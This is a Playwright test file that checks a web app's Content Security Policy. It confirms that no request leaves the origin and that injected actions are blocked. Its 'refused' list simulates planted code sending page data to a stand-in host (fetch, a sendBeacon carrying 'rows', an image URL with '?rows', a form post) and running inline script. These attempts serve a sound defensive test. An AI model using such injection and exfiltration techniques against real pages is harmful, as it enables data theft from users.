import type { Browser, BrowserContextOptions, Page } from "@playwright/test";
import { MainPath } from "./main-path/main-path";
import { pageDriver } from "./main-path/page-driver";
import { recordingProxy } from "./recording-proxy";
import { expect, test } from "./test";

/** Another origin: the proxy answers for every name. */
const ELSEWHERE = "http://elsewhere.test/elsewhere";

/** A page whose every request to another origin is recorded, and every breach of its policy. */
async function watchedPage(browser: Browser, home: string, options: BrowserContextOptions) {
  const proxy = await recordingProxy(home);
  const context = await browser.newContext({ ...options, serviceWorkers: "allow", proxy: proxy.proxy });
  const page = await context.newPage();
  const violations: string[] = [];
  await page.exposeFunction("onViolation", (text: string) => violations.push(text));
  await page.addInitScript(() => {
    document.addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI, sample }) => {
      const { onViolation } = window as unknown as { onViolation: (text: string) => void };
      onViolation(`${effectiveDirective}: ${blockedURI} ${sample}`);
    });
  });
  const stop = async () => {
    await context.close();
    proxy.stop();
  };
  return { page, violations, takeAsked: proxy.takeAsked, stop };
}

/** Everything that makes a file. */
async function saveEverything(page: Page, home: string): Promise<void> {
  const save = async (name: string) => {
    const button = page
      .getByRole("button", { name, exact: true })
      .or(page.getByRole("menuitem", { name, exact: true }));
    await Promise.all([page.waitForEvent("download"), button.first().click()]);
  };
  await page.goto(`${home}#/lab/train`);
  await page.getByRole("button", { name: "More" }).click();
  await save("Download CSV");
  await page.getByRole("button", { name: "Teach with this" }).click();
  await page.getByRole("menuitem", { name: "Save as slides" }).click();
  await expect(page.getByRole("dialog").getByRole("img")).toBeVisible();
  await save("Save SVG");
  await save("Save PNG");
  await page.goto(`${home}#/lab/code`);
  await save("Save visits.csv");
}

test("from Home to a served value and every saved file, no request leaves the origin and nothing breaks the policy", async ({
  browser,
  baseURL: home = "",
  contextOptions,
}) => {
  const { page, violations, takeAsked, stop } = await watchedPage(browser, home, contextOptions);
  await new MainPath(pageDriver(page), home).walk();
  await saveEverything(page, home);
  expect(takeAsked()).toEqual([]);
  expect(violations).toEqual([]);

  // The recording can fail: what a worker asks of another origin is seen. The policy governs the page alone.
  const [worker] = page.workers();
  await worker?.evaluate((url) => fetch(url).catch(() => undefined), ELSEWHERE);
  expect(takeAsked()).toEqual([ELSEWHERE]);
  await stop();
});

/** What something planted in the page would try, and which line of the policy says no. */
const refused: readonly [what: string, directive: string, attempt: () => void][] = [
  [
    "a request to another origin",
    "connect-src",
    () => void fetch("http://elsewhere.test/").catch(() => undefined),
  ],
  ["a beacon", "connect-src", () => void navigator.sendBeacon("http://elsewhere.test/", "rows")],
  [
    "a picture from another origin",
    "img-src",
    () => {
      new Image().src = "http://elsewhere.test/?rows";
    },
  ],
  [
    "text that is run",
    "script-src",
    () => {
      // Later, when no test tool's leave covers it.
      setTimeout("document.title = 'run'", 0);
    },
  ],
  [
    "a script in the page",
    "script-src-elem",
    () => {
      const script = document.createElement("script");
      script.textContent = "document.title = 'run'";
      document.head.append(script);
    },
  ],
  [
    "markup that acts",
    "script-src-attr",
    () => {
      const image = document.createElement("div");
      image.innerHTML = "<button onclick=\"document.title = 'run'\">x</button>";
      document.body.append(image);
      image.querySelector("button")?.click();
    },
  ],
  [
    "a style in the page",
    "style-src-elem",
    () => {
      const style = document.createElement("style");
      style.textContent = "body { display: none }";
      document.head.append(style);
    },
  ],
  ["a worker of other text", "worker-src", () => void new Worker(URL.createObjectURL(new Blob(["1"])))],
  [
    "a page in the page",
    "frame-src",
    () => {
      const frame = document.createElement("iframe");
      frame.src = "http://elsewhere.test/";
      document.body.append(frame);
    },
  ],
  [
    "a form that is sent",
    "form-action",
    () => {
      const form = document.createElement("form");
      form.action = "http://elsewhere.test/";
      document.body.append(form);
      form.submit();
    },
  ],
  [
    "another base for addresses",
    "base-uri",
    () => {
      const base = document.createElement("base");
      base.href = "http://elsewhere.test/";
      document.head.append(base);
    },
  ],
];

test("whatever is planted in the page, it can neither run text nor reach another origin", async ({
  browser,
  baseURL: home = "",
  contextOptions,
}) => {
  const { page, violations, takeAsked, stop } = await watchedPage(browser, home, contextOptions);
  await page.goto(home);
  await expect(page.getByRole("heading", { level: 1 })).toBeVisible();
  for (const [what, directive, attempt] of refused) {
    await test.step(what, async () => {
      // As a timer: what a test tool runs itself may do what the page may not.
      await page.evaluate(`setTimeout(${attempt}, 0)`);
      await expect.poll(() => violations.splice(0).map((text) => text.split(":")[0])).toContain(directive);
      expect(await page.title()).not.toBe("run");
    });
  }
  expect(takeAsked()).toEqual([]);
  await stop();
});
